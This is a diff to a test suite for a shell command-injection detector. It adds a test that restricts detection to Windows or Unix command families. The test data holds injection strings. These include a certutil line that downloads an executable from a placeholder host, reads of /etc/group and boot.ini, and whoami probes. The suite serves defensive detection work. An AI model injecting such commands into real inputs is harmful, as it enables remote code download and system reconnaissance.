@@ -53,6 +53,14 @@ describe("shell: Windows command injection", () => {
     expect(level("x | w^hoami")).toBe(Level.Standard);
     expect(level("x & certutil.exe -urlcache -f http://h.example/a a.exe")).toBe(Level.Basic);
   });
+  it("can be restricted to one family", () => {
+    let v = "x & cmd /c dir; cat /etc/group";
+    expect(det(v)).toBe(Detector.UnixCmd); // the Basic Unix finding wins overall
+    let w = detectShell(v, Detector.WinCmd);
+    expect(w).not.toBeNull();
+    expect(<i32>w!.detector).toBe(Detector.WinCmd);
+    expect(detectShell("; cat /etc/group", Detector.WinCmd)).toBeNull();
+  });
   it("commands on both systems are Windows when their arguments are", () => {
     expect(det("x & dir c:\\")).toBe(Detector.WinCmd);
     expect(det("x & type %SystemDrive%\\boot.ini")).toBe(Detector.WinCmd);
